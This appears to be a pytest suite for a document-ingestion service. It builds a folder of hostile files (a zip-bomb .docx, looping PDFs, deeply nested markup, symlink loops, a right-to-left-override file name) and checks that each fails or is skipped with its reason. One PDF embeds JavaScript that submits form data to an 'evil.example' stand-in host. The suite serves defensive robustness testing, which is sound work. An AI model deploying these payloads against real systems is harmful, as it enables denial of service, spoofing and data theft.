"""A generated folder of hostile and pathological files ingests to completion: each bad
file fails (or is skipped) alone with its reason, everything else is indexed.

One job runs over the folder once (module fixture); the tests read what it recorded.
Budgets are small so the suite stays fast (``max_unzipped_mb`` 20, ``max_nesting`` 200).
"""

from __future__ import annotations

import os
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pytest
from sqlalchemy import select

import ingest.prepare
from core.db import Document, Job, JobEvent
from core.services import Services
from core.settings import SourceConfig
from ingest import JobResult, list_documents, list_jobs, retry_failed, run_job
from tests.conftest import make_settings
from tests.ingest.conftest import write_docx

ODD_NAME = os.fsdecode(b"odd\nname \xff\xfe.md")
"""A newline and bytes that are not UTF-8: ``os`` keeps them as surrogate escapes."""
RTL_NAME = "invoice\u202egpj.md"
BROKEN_ODD_NAME = os.fsdecode(b"broken \xff.docx")


def _pdf(objects: list[bytes], *, self_prev: bool = False) -> bytes:
    """A minimal PDF from its objects (1 is the catalog); ``self_prev``: an xref whose
    /Prev points at itself."""
    out = b"%PDF-1.4\n"
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += f"{number} 0 obj\n".encode() + body + b"\nendobj\n"
    xref = len(out)
    out += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
    out += b"".join(f"{o:010d} 00000 n \n".encode() for o in offsets)
    prev = f" /Prev {xref}" if self_prev else ""
    trailer = f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R{prev} >>\n"
    return out + trailer.encode() + f"startxref\n{xref}\n%%EOF\n".encode()


def _pdf_objects(kids: bytes, catalog_extra: bytes = b"") -> list[bytes]:
    text = b"BT /F1 12 Tf 72 720 Td (Quarterly fire drills happen on the first Monday.) Tj ET"
    return [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b">>",
        b"<< /Type /Pages /Kids " + kids + b" /Count 2 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length %d >>\nstream\n" % len(text) + text + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        b"<< /S /JavaScript /JS (this.submitForm('http://evil.example/steal');) >>",
    ]


def _zip_bomb(path: Path, megabytes: int) -> None:
    """A .docx that is a zip whose document part unpacks to ``megabytes`` of zeros."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        with archive.open("word/document.xml", "w") as part:
            block = b"\0" * (1 << 20)
            for _ in range(megabytes):
                part.write(block)


def make_hostile_folder(root: Path) -> Path:
    root.mkdir(parents=True)
    (root / "fine").mkdir()
    (root / "fine" / "leave.md").write_text(
        "# Leave\n\nEveryone gets 27 days of annual leave.\n", encoding="utf-8"
    )
    (root / "fine" / "notes.txt").write_text("The kitchen is cleaned on Fridays.\n")
    write_docx(root / "fine" / "expenses.docx")
    (root / ODD_NAME).write_text("# Odd name\n\nBicycles are parked in the courtyard.\n")
    (root / RTL_NAME).write_text("# Invoice\n\nInvoices are paid within 30 days.\n")
    (root / BROKEN_ODD_NAME).write_bytes(b"not a zip, whatever its name says")
    (root / "long-line.md").write_text("# One line\n\n" + "lorem ipsum " * 440_000 + "\n")
    (root / "deep-list.md").write_text("- " * 100_000 + "bottom\n")
    (root / "divs.html").write_text(
        "<html><body>" + "<div>" * 50_000 + "deep" + "</div>" * 50_000 + "</body></html>"
    )
    (root / "wide.csv").write_text(
        ",".join(f"c{i}" for i in range(100_000)) + "\n" + ",".join(["1"] * 100_000) + "\n"
    )
    _zip_bomb(root / "bomb.docx", 40)
    (root / "page-tree-loop.pdf").write_bytes(_pdf(_pdf_objects(b"[2 0 R 3 0 R]")))
    (root / "xref-loop.pdf").write_bytes(_pdf(_pdf_objects(b"[3 0 R]"), self_prev=True))
    (root / "javascript.pdf").write_bytes(_pdf(_pdf_objects(b"[3 0 R]", b"/OpenAction 6 0 R ")))
    (root / "deleted-mid-job.md").write_text("# Gone\n\nThis file is deleted after the scan.\n")
    (root / "changes-while-read.md").write_text("# Moving\n\nThis file changes as it is read.\n")
    (root / "dangling.md").symlink_to(root / "nowhere.md")
    (root / "self-loop.md").symlink_to(root / "self-loop.md")
    (root / "fine" / "back-to-root").symlink_to(root, target_is_directory=True)
    (root / "link-to-leave.md").symlink_to(root / "fine" / "leave.md")
    (root.parent / "outside.md").write_text("# Elsewhere\n\nNot part of this source.\n")
    (root / "outside.md").symlink_to(root.parent / "outside.md")
    os.mkfifo(root / "pipe.txt")
    return root


class _DeleteAfterScan:
    """A progress listener that deletes a file once the scan has listed it."""

    def __init__(self, victim: Path) -> None:
        self.victim = victim

    def start(self, files_total: int) -> None:
        self.victim.unlink()

    def advance(self, path: str, action: str, chunks_embedded: int) -> None:
        pass


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Services, JobResult]]:
    root = make_hostile_folder(tmp_path_factory.mktemp("hostile") / "docs")
    settings = make_settings(
        tmp_path_factory.mktemp("hostile-footnote"),
        sources={"hostile": SourceConfig(path=root)},
        max_unzipped_mb=20,
    )
    hashed = ingest.prepare.file_hash

    def hash_then_change(path: Path) -> str:
        """A writer appends to one file right after it was hashed (before it is parsed)."""
        digest = hashed(path)
        if path.name == "changes-while-read.md":
            with open(path, "a", encoding="utf-8") as handle:
                handle.write("\nA late line, written while the job read the file.\n")
        return digest

    services = Services(settings)
    with pytest.MonkeyPatch.context() as mp:
        mp.setattr(ingest.prepare, "file_hash", hash_then_change)
        result = run_job(
            services, "hostile", progress=_DeleteAfterScan(root / "deleted-mid-job.md")
        )
    yield services, result
    services.close()


def _events(services: Services, job_id: int) -> dict[str, list[tuple[str, str]]]:
    with services.sessions() as session:
        rows = session.scalars(select(JobEvent).where(JobEvent.job_id == job_id)).all()
    found: dict[str, list[tuple[str, str]]] = {}
    for row in rows:
        found.setdefault(row.path, []).append((row.action, row.reason or ""))
    return found


def _only_event(services: Services, result: JobResult, path: str, action: str) -> str:
    """The reason of the one event the job recorded for ``path`` (which must be ``action``)."""
    ((recorded, reason),) = _events(services, result.job_id)[path]
    assert recorded == action
    return reason


def test_the_job_completes_and_the_good_files_are_indexed(
    hostile: tuple[Services, JobResult],
) -> None:
    services, result = hostile
    assert result.status == "succeeded", result.error
    indexed = {d.path for d in list_documents(services) if d.status == "indexed"}
    assert {"fine/leave.md", "fine/notes.txt", "fine/expenses.docx"} <= indexed
    assert {"long-line.md", "page-tree-loop.pdf", "javascript.pdf"} <= indexed
    with services.sessions() as session:
        job = session.get(Job, result.job_id)
        assert job is not None and job.heartbeat_at is not None
        assert job.files_done == job.files_total


@pytest.mark.parametrize(
    ("path", "reason"),
    [
        ("deep-list.md", "too deeply nested"),
        ("divs.html", "too deeply nested"),
        ("wide.csv", "too wide: 100000 columns"),
        ("bomb.docx", "zip bomb"),
        ("xref-loop.pdf", "too deeply nested"),
        ("deleted-mid-job.md", "disappeared during the job"),
        ("changes-while-read.md", "changed while it was being read"),
    ],
)
def test_each_bad_file_fails_alone_with_its_reason(
    hostile: tuple[Services, JobResult], path: str, reason: str
) -> None:
    services, result = hostile
    recorded = _only_event(services, result, path, "failed")
    assert reason in recorded and (path, recorded) in result.failures


@pytest.mark.parametrize(
    ("path", "reason"),
    [
        ("dangling.md", "dangling symlink"),
        ("self-loop.md", "symlink loop"),
        ("fine/back-to-root", "symlink loop"),
        ("link-to-leave.md", "already ingested as fine/leave.md"),
        ("outside.md", "out of the source root"),
        ("pipe.txt", "not a regular file"),
    ],
)
def test_what_is_not_followed_is_skipped_with_an_event(
    hostile: tuple[Services, JobResult], path: str, reason: str
) -> None:
    services, result = hostile
    assert reason in _only_event(services, result, path, "skipped")
    assert result.skipped == 6


def test_odd_names_get_printable_ids_rows_and_events(hostile: tuple[Services, JobResult]) -> None:
    services, result = hostile
    docs = {d.path: d for d in list_documents(services)}
    odd, rtl = "odd\\x0aname \\xff\\xfe.md", "invoice\\u202egpj.md"
    assert docs[odd].status == "indexed" and docs[rtl].status == "indexed"
    assert "\n" not in "".join(docs) and "\u202e" not in "".join(docs)
    events = _events(services, result.job_id)
    assert events[odd] == [("added", "")]


def test_capped_text_is_recorded_on_the_document(hostile: tuple[Services, JobResult]) -> None:
    services, _ = hostile
    with services.sessions() as session:
        doc = session.scalar(select(Document).where(Document.path == "long-line.md"))
        assert doc is not None and "1 line(s) cut" in doc.meta["capped"]


def test_a_second_run_changes_nothing_it_already_did(
    hostile: tuple[Services, JobResult],
) -> None:
    services, _ = hostile
    again = run_job(services, "hostile")
    assert again.status == "succeeded"
    assert (again.added, again.updated, again.deleted) == (1, 0, 1)  # changed; deleted
    assert {j.status for j in list_jobs(services)} == {"succeeded"}
    docs = {d.path: d.status for d in list_documents(services)}
    assert docs["changes-while-read.md"] == "indexed" and "deleted-mid-job.md" not in docs


def test_a_failed_file_with_an_odd_name_can_be_retried(hostile: tuple[Services, JobResult]) -> None:
    services, first = hostile
    printable = "broken \\xff.docx"
    assert printable in dict(first.failures)
    retried = retry_failed(services, first.job_id)
    assert retried is not None and retried.status == "succeeded"
    assert "could not parse as docx" in dict(retried.failures)[printable]
